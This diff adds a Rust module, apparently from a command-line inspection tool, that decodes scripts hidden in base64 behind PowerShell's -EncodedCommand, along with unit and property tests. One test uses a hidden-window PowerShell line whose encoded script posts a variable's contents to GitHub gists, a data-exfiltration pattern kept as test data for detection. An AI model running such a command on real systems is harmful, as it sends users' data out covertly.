@@ -1,0 +1,125 @@
+//! `powershell -EncodedCommand`: the script behind the base64.
+
+use base64::Engine as _;
+use base64::alphabet::STANDARD;
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+use std::ops::Range;
+
+use super::words::words;
+
+/// Bytes of base64 that are decoded. A command line has at most 32,767 characters.
+const BASE64_LIMIT: usize = 64 << 10;
+const PARAMETER: &str = "encodedcommand";
+
+/// A script that stood on a command line in base64.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Decoded {
+    /// Where the base64 stands, in bytes.
+    pub range: Range<usize>,
+    /// The script. It is the attacker's: neither masked nor made visible.
+    pub script: String,
+}
+
+/// The script that a command line of PowerShell holds in base64 of UTF-16LE; `None` where there is none, or where it
+/// does not decode to text. PowerShell takes any prefix of the parameter's name, `-`, `/` and three longer dashes; after
+/// `-Command` or `-File` all is the script's own.
+#[must_use]
+pub fn decoded(line: &str) -> Option<Decoded> {
+    let mut rest = words(line).into_iter().skip(1);
+    while let Some(word) = rest.next() {
+        let name = word.text.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']);
+        let Some(name) = name.map(str::to_ascii_lowercase) else { continue };
+        let name = name.trim_start_matches('-');
+        if name.is_empty() {
+            continue;
+        }
+        if "command".starts_with(name) || "file".starts_with(name) {
+            return None;
+        }
+        if name == "ec" || PARAMETER.starts_with(name) {
+            let value = rest.next()?;
+            return Some(Decoded { script: script(&value.text)?, range: value.range });
+        }
+    }
+    None
+}
+
+fn script(base64: &str) -> Option<String> {
+    let mut digits: Vec<u8> =
+        base64.bytes().filter(|byte| !byte.is_ascii_whitespace()).take(BASE64_LIMIT).collect();
+    while digits.last() == Some(&b'=') {
+        digits.pop();
+    }
+    // A line that was cut short still tells what it began with: one digit alone encodes no byte.
+    if digits.len() % 4 == 1 {
+        digits.pop();
+    }
+    let lenient = GeneralPurposeConfig::new()
+        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+        .with_decode_allow_trailing_bits(true);
+    let bytes = GeneralPurpose::new(&STANDARD, lenient).decode(&digits).ok()?;
+    let units = bytes.chunks_exact(2).map(|pair| {
+        let [low, high] = *pair else { return 0 };
+        u16::from_le_bytes([low, high])
+    });
+    let text: String = char::decode_utf16(units).map(|unit| unit.unwrap_or('\u{fffd}')).collect();
+    (!text.is_empty()).then_some(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use base64::engine::general_purpose;
+    use proptest::prelude::*;
+
+    fn encoded(script: &str) -> String {
+        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        general_purpose::STANDARD.encode(bytes)
+    }
+
+    #[test]
+    fn every_way_of_saying_it_is_decoded() {
+        let script = "irm https://api.github.com/gists -Method Post -Body $b # é";
+        let base64 = encoded(script);
+        for name in ["-e", "-ec", "-enc", "/e", "-EncodedCommand", "-eNcOdEd", "\u{2013}enc", "--enc"] {
+            let line = format!("powershell.exe -NoP -W Hidden {name} {base64}");
+            let found = decoded(&line).unwrap_or_else(|| panic!("{name}"));
+            assert_eq!(found.script, script);
+            assert_eq!(&line[found.range], base64);
+        }
+        assert_eq!(decoded(&format!("pwsh -e \"{base64}\"")).unwrap().script, script);
+        let cut = &base64[..base64.len() - 9];
+        assert!(
+            script
+                .starts_with(decoded(&format!("pwsh -e {cut}")).unwrap().script.trim_end_matches('\u{fffd}'))
+        );
+    }
+
+    #[test]
+    fn what_is_none_is_not_decoded() {
+        let base64 = encoded("Get-Date");
+        for line in [
+            format!("powershell.exe -Command Select-String -e {base64}"),
+            format!("powershell.exe -f x.ps1 -e {base64}"),
+            format!("powershell.exe -ExecutionPolicy {base64}"),
+            "powershell.exe -enc".to_owned(),
+            "powershell.exe -enc !!!".to_owned(),
+            String::new(),
+        ] {
+            assert_eq!(decoded(&line), None, "{line}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn any_script_comes_back(script in "\\PC{1,60}") {
+            let line = format!("powershell -enc {}", encoded(&script));
+            prop_assert_eq!(decoded(&line).unwrap().script, script);
+        }
+
+        #[test]
+        fn any_line_is_survived(line in "\\PC*|powershell -e [A-Za-z0-9+/= \"]*") {
+            let _ = decoded(&line);
+        }
+    }
+}
